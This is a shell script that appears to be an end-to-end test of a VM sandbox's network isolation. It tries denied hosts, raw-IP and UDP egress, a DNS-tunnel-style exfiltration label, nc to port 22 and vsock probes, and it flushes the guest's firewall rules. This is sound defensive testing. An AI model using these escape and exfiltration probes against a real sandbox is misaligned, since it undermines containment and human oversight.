#!/bin/sh
# The session command of the network and escape session (runs in the L2
# guest as root, started by capsem-init on hvc0).  Each check is a section
#   G-BEGIN <name> ... G-END <name> rc=<exit status>
# with the command's output in between; e2e.py decides PASS/FAIL.  Every
# command is bounded (curl --max-time, timeout).
CT="--connect-timeout 5 --max-time 20"

run() {
	n=$1; shift
	echo "G-BEGIN $n"
	out=$("$@" 2>&1)
	rc=$?
	printf '%s\n' "$out" | head -c 3000
	echo
	echo "G-END $n rc=$rc"
}

hcurl() {
	# body, then HTTP=<code> on a line of its own
	curl -sS $CT -o - -w '\nHTTP=%{http_code}\n' "$@"
}

echo "G-START"
# what the guest sees of its own network
run env sh -c 'env | grep -E "^(SSL_CERT_FILE|CURL_CA_BUNDLE)="; cat /etc/resolv.conf'
run dns-allowed nslookup api.example.test

# 2. transparent HTTPS through the proxy, CA trusted without flags
run get-allowed hcurl https://api.example.test/
run post-allowed hcurl -d 'capsem=e2e' https://api.example.test/submit
run get-allowed-again hcurl https://api.example.test/again
# denied names resolve (to 198.19.255.254) and get the explained 403
run denied-dns-lookup nslookup denied.example.test
run denied-host-dns hcurl https://denied.example.test/denied-dns
run default-deny-dns hcurl https://nolist.example.test/nolist-dns
run denied-name-port-22 timeout 10 nc -w 5 denied.example.test 22 </dev/null
run denied-host hcurl --resolve denied.example.test:443:198.18.0.99 \
    https://denied.example.test/denied-host
run default-deny-host hcurl --resolve nolist.example.test:443:198.18.0.98 \
    https://nolist.example.test/nolist
run denied-method hcurl -X DELETE https://api.example.test/item/1
run denied-path hcurl -d 'x=1' https://api.example.test/admin/users
run sni-host-mismatch hcurl -H 'Host: denied.example.test' \
    https://api.example.test/fronted
run connect-method hcurl -X CONNECT https://api.example.test/connect
run plain-http-off hcurl http://api.example.test/plain

# 3. escape attempts: raw addresses, other ports, UDP, DNS tunnels
run guest-picks-address hcurl --resolve api.example.test:443:203.0.113.7 \
    https://api.example.test/pinned
run raw-ip-443 hcurl -k https://203.0.113.7/raw
run raw-ip-22 timeout 10 nc -w 5 203.0.113.7 22 </dev/null
run raw-ip-8080 hcurl http://203.0.113.7:8080/raw
run udp-8888-53 timeout 10 nslookup example.com 8.8.8.8
run udp-8888-5353 timeout 10 e2e-catcher send udp:8.8.8.8:5353 capsem-escape-datagram
run tcp-8888-53 timeout 10 e2e-catcher send tcp:8.8.8.8:53 capsem-escape-stream
run dns-txt timeout 10 nslookup -type=TXT api.example.test
# two 60-byte labels of "data", as a DNS tunnel would send
L60=0123456789abcdef0123456789abcdef0123456789abcdef0123456789ab
run dns-long-label timeout 10 nslookup "$L60.$L60.exfil.example.com"
run icmp timeout 10 ping -c 1 -W 3 203.0.113.7
run ipv6 hcurl -6 https://api.example.test/v6
run ipv6-literal hcurl -k 'https://[2001:db8::7]/v6'
run vsock-2-4444 timeout 10 guest-check refused 2 4444
run vsock-1-1443 timeout 10 guest-check refused 1 1443
run vsock-0-1443 timeout 10 guest-check refused 0 1443
run vsock-3-1443 timeout 10 guest-check refused 3 1443

# the guest drops its own rules: the boundary is the vmm + netproxy
# (from here on nothing answers: short timeouts)
CT="--connect-timeout 3 --max-time 6"
run nft-flush nft flush ruleset
run nft-after sh -c 'nft list ruleset | wc -l'
run flushed-allowed-host hcurl --resolve api.example.test:443:198.18.0.1 \
    https://api.example.test/after-flush
run flushed-raw-ip-443 hcurl -k https://203.0.113.7/after-flush
run flushed-raw-ip-22 timeout 6 nc -w 3 203.0.113.7 22 </dev/null
run flushed-udp-8888-53 timeout 4 nslookup example.com 8.8.8.8
run flushed-udp-8888-5353 timeout 10 e2e-catcher send udp:8.8.8.8:5353 capsem-escape-after-flush
run flushed-udp-8888-53-raw timeout 10 e2e-catcher send udp:8.8.8.8:53 capsem-escape-after-flush
run flushed-tcp-8888-443 timeout 10 e2e-catcher send tcp:8.8.8.8:443 capsem-escape-after-flush
echo "G-DONE"
exit 0
